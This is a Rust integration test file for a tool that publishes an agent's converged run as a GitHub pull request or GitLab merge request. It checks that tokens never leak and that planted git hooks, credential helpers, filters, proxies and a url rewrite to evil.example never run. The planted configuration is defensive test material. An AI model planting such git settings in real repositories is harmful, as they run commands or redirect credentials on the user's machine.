//! `pi run --pull-request`: a real push to a real repository, and a scripted API.

mod forge;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{Value, json};

use super::{configure, run_file, runs};
use crate::scenarios::format::{Call, Part, Reply};
use crate::scenarios::server::Server;
use crate::test_env::TestEnv;
use forge::{Forge, TOKEN};

/// A clone of the repository of a forge, and a model that repairs `sub/a.txt`.
struct PublishEnv {
    env: TestEnv,
    server: Server,
    forge: Forge,
}

fn git(directory: &Path, arguments: &[&str]) -> String {
    let output = Command::new("git")
        .args(["-c", "user.name=a", "-c", "user.email=a@example.com"])
        .args(arguments)
        .current_dir(directory)
        .output()
        .unwrap();
    assert!(output.status.success(), "{arguments:?}: {output:?}");
    String::from_utf8(output.stdout).unwrap().trim_end().to_owned()
}

fn write(id: &str, path: &str, content: &str) -> Part {
    let (id, name) = (id.to_owned(), "write".to_owned());
    Part::Call(Call { id, name, args: json!({"path": path, "content": content}), pieces: None })
}

impl PublishEnv {
    fn new() -> Self {
        let env = TestEnv::new();
        let calls = vec![
            write("c1", "a.txt", "one\nnew\nthree\n"),
            write("c2", "added @file.txt", "a file\n"),
        ];
        let replies = [Reply::Parts(calls), Reply::Text("Done, @all. Fixes #1.".to_owned())];
        let server = Server::choosing(move |_, index| replies[index.min(1)].clone()).unwrap();
        configure(&env, &server);
        let forge = Forge::start();
        let project = env.project();
        git(&project, &["init", "--quiet", "--initial-branch=main"]);
        fs::create_dir(project.join("sub")).unwrap();
        for (name, text) in [("sub/a.txt", "one\nold\nthree\n"), ("other.txt", "other\n")] {
            fs::write(project.join(name), text).unwrap();
        }
        git(&project, &["add", "."]);
        git(&project, &["commit", "--quiet", "--message", "start"]);
        git(&project, &["push", "--quiet", forge.bare().to_str().unwrap(), "main"]);
        git(&project, &["remote", "add", "origin", &forge.remote()]);
        Self { env, server, forge }
    }

    fn command(&self, arguments: &[&str], is_gitlab: bool) -> Command {
        let mut command = self.env.command(arguments);
        command.env("PATH", std::env::var_os("PATH").unwrap());
        if is_gitlab {
            command.env("CI_API_V4_URL", format!("{}/api/v4", self.forge.url()));
            command.env("GITLAB_TOKEN", TOKEN);
        } else {
            command.env("GITHUB_API_URL", format!("{}/api/v3", self.forge.url()));
            command.env("GITHUB_TOKEN", TOKEN);
        }
        command
    }

    /// Runs the task in the directory `sub`.
    fn run(&self, more: &[&str], is_gitlab: bool) -> Output {
        // Without a sandbox, a person has to accept the result.
        let accept = ["--profile", "explore", "--accept-review"];
        let task = [&["run", "Repair @a, closes #3", "--name", "repair-a"], &accept[..]].concat();
        let rest = ["--check", "grep -q new a.txt", "--set", "workspace.directory=sub"];
        self.command(&[&task[..], &rest, more].concat(), is_gitlab).output().unwrap()
    }

    fn resume(&self, more: &[&str]) -> Output {
        let id = self.id();
        self.command(&[&["run", "--resume", &id], more].concat(), false).output().unwrap()
    }

    fn id(&self) -> String {
        runs(&self.env)[0].file_name().unwrap().to_str().unwrap().to_owned()
    }

    fn publication(&self) -> Value {
        run_file(&self.env, "report.json")["publication"].clone()
    }

    /// Returns the names of the branches of the forge.
    fn branches(&self) -> Vec<String> {
        let list = git(&self.forge.bare(), &["for-each-ref", "--format=%(refname:short)"]);
        list.lines().map(str::to_owned).collect()
    }

    /// Fails if a file below a directory contains the token.
    fn assert_no_token(&self, outputs: &[&Output]) {
        for output in outputs {
            let text = format!("{output:?}");
            assert!(!text.contains(TOKEN), "{text}");
        }
        let mut files = BTreeMap::new();
        contents(&self.env.agent(), &mut files);
        contents(&self.env.project(), &mut files);
        for (path, content) in files {
            assert!(!String::from_utf8_lossy(&content).contains(TOKEN), "{}", path.display());
        }
        let asked: String = self.server.requests().iter().map(Value::to_string).collect();
        assert!(!asked.contains(TOKEN));
        assert_eq!(self.forge.leaks(), [] as [&str; 0]);
    }
}

fn contents(directory: &Path, found: &mut BTreeMap<PathBuf, Vec<u8>>) {
    for entry in fs::read_dir(directory).unwrap().flatten() {
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            contents(&path, found);
        } else {
            found.insert(path.clone(), fs::read(&path).unwrap_or_default());
        }
    }
}

/// Makes the repository start programs wherever its configuration can name one.
fn plant(project: &Path, marker: &Path) {
    let touch = format!("touch {}", marker.display());
    for hook in
        ["pre-push", "pre-commit", "post-commit", "reference-transaction", "post-index-change"]
    {
        let path = project.join(".git/hooks").join(hook);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, format!("#!/bin/sh\n{touch}-hook\n")).unwrap();
        use std::os::unix::fs::PermissionsExt as _;
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let planted = format!(
        "\n[core]\n\tsshCommand = {touch}-ssh\n\taskPass = {touch}-ask\n\tgitProxy = {touch}-proxy\n\
         [credential]\n\thelper = \"!{touch}-credential\"\n\
         [filter \"x\"]\n\tclean = {touch}-clean\n\tsmudge = {touch}-smudge\n\trequired = true\n\
         [diff \"x\"]\n\ttextconv = {touch}-textconv\n\
         [url \"https://evil.example/\"]\n\tinsteadOf = http://127.0.0.1\n\
         [http]\n\tproxy = http://evil.example:1\n\
         [include]\n\tpath = /dev/null\n"
    );
    let config = project.join(".git/config");
    fs::write(&config, fs::read_to_string(&config).unwrap() + &planted).unwrap();
    fs::write(project.join(".git/info/attributes"), "* filter=x diff=x\n").unwrap();
}

#[test]
fn a_converged_run_becomes_a_pull_request() {
    let test = PublishEnv::new();
    let project = test.env.project();
    // Changes of the user that are no part of the run.
    fs::write(project.join("other.txt"), "not finished\n").unwrap();
    fs::write(project.join("untracked"), "mine\n").unwrap();
    git(&project, &["add", "other.txt"]);
    let start = git(&project, &["rev-parse", "HEAD"]);
    let marker = project.parent().unwrap().join("marker");
    plant(&project, &marker);
    let mut before = BTreeMap::new();
    contents(&project, &mut before);

    let options = ["--pull-request", "--pr-label", "pi", "--pr-draft"];
    let output = test.run(&options, false);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let publication = test.publication();
    let branch = format!("pi/repair-a-{}", test.id());
    assert_eq!(publication["state"], "created", "{publication}");
    assert_eq!((&publication["branch"], &publication["base"]), (&json!(branch), &json!("main")));
    let url = publication["url"].as_str().unwrap();
    assert!(String::from_utf8_lossy(&output.stderr).contains(&format!("pull request: {url}")));

    // One commit with the base of the run and the diff of the run.
    let bare = test.forge.bare();
    assert_eq!(git(&bare, &["rev-parse", &format!("{branch}^")]), start);
    let names = git(&bare, &["diff", "--name-status", &start, &branch]);
    assert_eq!(names, "M\tsub/a.txt\nA\tsub/added @file.txt");
    assert_eq!(git(&bare, &["show", &format!("{branch}:sub/a.txt")]), "one\nnew\nthree");
    assert_eq!(git(&bare, &["show", &format!("{branch}:other.txt")]), "other");

    // The repository of the user is as it was, byte for byte, and nothing in it ran.
    let mut after = BTreeMap::new();
    contents(&project, &mut after);
    before.insert(project.join("sub/a.txt"), b"one\nnew\nthree\n".to_vec());
    before.insert(project.join("sub/added @file.txt"), b"a file\n".to_vec());
    assert!(before == after, "{:?}", changed(&before, &after));
    let planted = fs::read_dir(project.parent().unwrap()).unwrap().flatten();
    let planted = planted.filter(|entry| entry.file_name().to_string_lossy().starts_with("marker"));
    assert_eq!(planted.map(|entry| entry.path()).collect::<Vec<_>>(), [] as [PathBuf; 0]);
    test.assert_no_token(&[&output]);

    let requests = test.forge.requests();
    let methods: Vec<(&str, &str)> = requests
        .iter()
        .map(|(method, path, _)| (method.as_str(), path.split('?').next().unwrap()))
        .collect();
    let pulls = "/api/v3/repos/acme/widget/pulls";
    let labels = "/api/v3/repos/acme/widget/issues/1/labels";
    assert_eq!(methods, [("GET", pulls), ("POST", pulls), ("POST", labels)]);
    let sent = &requests[1].2;
    assert_eq!(
        (&sent["head"], &sent["base"], &sent["draft"]),
        (&json!(branch), &json!("main"), &json!(true))
    );
    assert_eq!(sent["title"], "repair-a");
    let body = sent["body"].as_str().unwrap();
    assert!(body.contains("outcome `converged`") && body.contains(&test.id()), "{body}");
    assert!(body.contains("| grep -q new a.txt | passed |"), "{body}");
    assert!(body.contains("@\u{200b}a, closes #\u{200b}3") && !body.contains("@f"), "{body}");
    assert_eq!(requests[2].2, json!({"labels": ["pi"]}));
}

fn changed<'a>(
    before: &'a BTreeMap<PathBuf, Vec<u8>>,
    after: &'a BTreeMap<PathBuf, Vec<u8>>,
) -> Vec<&'a PathBuf> {
    let paths = before.keys().chain(after.keys());
    paths.filter(|path| before.get(*path) != after.get(*path)).collect()
}

#[test]
fn a_failed_publication_is_repeated_without_the_agent() {
    let test = PublishEnv::new();
    test.forge.fail("POST", 502);
    let output = test.run(&["--pull-request"], false);
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let report = run_file(&test.env, "report.json");
    assert_eq!((&report["outcome"], &report["exitCode"]), (&json!("converged"), &json!(1)));
    let error = report["publication"]["error"].as_str().unwrap();
    assert!(error.contains("cannot create the pull request: HTTP 502 broken"), "{error}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains(&format!("pi run --resume {} --pull-request", test.id())), "{stderr}");
    let asked = test.server.requests().len();

    // The branch is there already, with the same commit.
    let first = test.branches();
    let resumed = test.resume(&["--pull-request"]);
    assert_eq!(resumed.status.code(), Some(0), "{resumed:?}");
    assert_eq!(test.publication()["state"], "created");
    assert_eq!((test.branches(), test.server.requests().len()), (first, asked));
    // What is published is not published again.
    let requests = test.forge.requests().len();
    let again = test.resume(&["--pull-request"]);
    assert_eq!(again.status.code(), Some(0), "{again:?}");
    assert_eq!(test.forge.requests().len(), requests);
    test.assert_no_token(&[&output, &resumed, &again]);
}

#[test]
fn a_finished_run_is_published_later_and_an_open_pull_request_is_found() {
    let test = PublishEnv::new();
    let output = test.run(&[], false);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!((test.publication(), test.branches()), (Value::Null, vec!["main".to_owned()]));
    let options =
        ["--pull-request", "--pr-branch", "fix/a", "--pr-title", "Repair it", "--pr-label", "x"];
    let id = test.id();
    git(&test.env.project(), &["checkout", "--quiet", "-b", "elsewhere"]);
    let output = test.resume(&options);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(test.publication()["base"], "main");
    // The report is lost, as if the process had been killed before it was written.
    let file = runs(&test.env)[0].join("report.json");
    let mut report: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    report.as_object_mut().unwrap().remove("publication");
    fs::write(&file, report.to_string()).unwrap();
    let output = test.resume(&options);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(test.publication()["state"], "found", "{id}");
    assert_eq!(test.branches(), ["fix/a", "main"]);
    let created = test
        .forge
        .requests()
        .into_iter()
        .filter(|(method, path, _)| method == "POST" && path.ends_with("/pulls"));
    let titles: Vec<Value> = created.map(|(_, _, body)| body["title"].clone()).collect();
    assert_eq!(titles, ["Repair it"]);
}

#[test]
fn a_shallow_clone_behind_its_remote_is_published_from_a_worktree() {
    let test = PublishEnv::new();
    let (project, bare) = (test.env.project(), test.forge.bare());
    let (bare_path, other) = (bare.to_str().unwrap(), project.with_file_name("other"));
    git(&project, &["commit", "--quiet", "--allow-empty", "--message", "second"]);
    git(&project, &["push", "--quiet", bare_path, "main"]);
    fs::rename(&project, &other).unwrap();
    let (source, target) = (format!("file://{bare_path}"), project.to_str().unwrap());
    git(&other, &["clone", "--quiet", "--depth", "1", &source, target]);
    git(&project, &["remote", "set-url", "origin", &test.forge.remote()]);
    let start = git(&project, &["rev-parse", "HEAD"]);
    git(&other, &["commit", "--quiet", "--allow-empty", "--message", "third"]);
    git(&other, &["push", "--quiet", bare_path, "main"]);

    let output = test.run(&["--pull-request", "--workspace", "worktree"], false);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let branch = test.publication()["branch"].as_str().unwrap().to_owned();
    assert_eq!(git(&bare, &["rev-parse", &format!("{branch}^")]), start);
    assert_eq!(git(&bare, &["rev-list", "--count", &branch]), "3");
    assert_eq!(git(&project, &["worktree", "list"]).lines().count(), 1);
    let compared = format!("/api/v3/repos/acme/widget/compare/main...{start}?per_page=1");
    assert!(test.forge.requests().iter().any(|(_, path, _)| *path == compared));
}

#[test]
fn gitlab_gets_a_merge_request() {
    let test = PublishEnv::new();
    let options = ["--pull-request", "--pr-draft", "--pr-label", "a", "--pr-label", "b"];
    let output = test.run(&options, true);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let publication = test.publication();
    assert_eq!(publication["state"], "created");
    let requests = test.forge.requests();
    let (_, path, body) = requests.last().unwrap();
    assert_eq!(path, "/api/v4/projects/acme%2Fwidget/merge_requests");
    assert_eq!((&body["title"], &body["labels"]), (&json!("Draft: repair-a"), &json!("a,b")));
    assert_eq!(
        (&body["source_branch"], &body["target_branch"]),
        (&publication["branch"], &json!("main"))
    );
    assert_eq!(test.branches().len(), 2);
    test.assert_no_token(&[&output]);
}

#[test]
fn what_cannot_be_published_is_refused() {
    // Before the agent starts.
    let test = PublishEnv::new();
    let cases: [(&[&str], &str); 4] = [
        (&["--pr-base", "main"], "no effect without publish.pull_request"),
        (&["--pull-request", "--pr-base", "-x"], "is not the name of a branch"),
        (&["--pull-request", "--pr-remote", "fork"], "no remote \"fork\""),
        (
            &["--pull-request", "--pr-api", "https://evil.example/api/v4"],
            "is not the API of 127.0.0.1",
        ),
    ];
    for (options, expected) in cases {
        let output = test.run(options, false);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains(expected), "{expected}: {stderr}");
    }
    assert_eq!(test.server.requests().len(), 0);

    // After the run has converged.
    type Prepare = fn(&PublishEnv);
    let cases: [(Prepare, &[&str], &str); 4] = [
        (|_| {}, &["--pr-base", "release"], "the remote has no branch \"release\""),
        (
            |test| {
                git(&test.env.project(), &["commit", "--quiet", "--allow-empty", "-m", "local"]);
            },
            &[],
            "does not have the commit",
        ),
        (
            |test| {
                let path = test.env.project().join("sub/a.txt");
                fs::write(path, "changed\nby\nthe user\n").unwrap();
            },
            &[],
            "do not apply to the commit",
        ),
        (
            |test| drop(git(&test.forge.bare(), &["branch", "taken", "main"])),
            &["--pr-branch", "taken"],
            "exists and has other commits",
        ),
    ];
    for (prepare, options, expected) in cases {
        let test = PublishEnv::new();
        prepare(&test);
        let before = test.branches();
        let output = test.run(&[&["--pull-request"], options].concat(), false);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{expected}: {stderr}");
        let publication = test.publication();
        assert!(publication["error"].as_str().unwrap().contains(expected), "{publication}");
        assert_eq!(test.branches(), before);
    }
}

#[test]
fn a_run_that_fails_is_not_published() {
    let test = PublishEnv::new();
    let options = ["--pull-request", "--check", "false", "--rounds", "0"];
    let output = test.run(&options, false);
    assert_eq!(output.status.code(), Some(10), "{output:?}");
    assert_eq!((test.publication(), test.forge.requests().len()), (Value::Null, 0));
    assert_eq!(test.branches(), ["main"]);
}
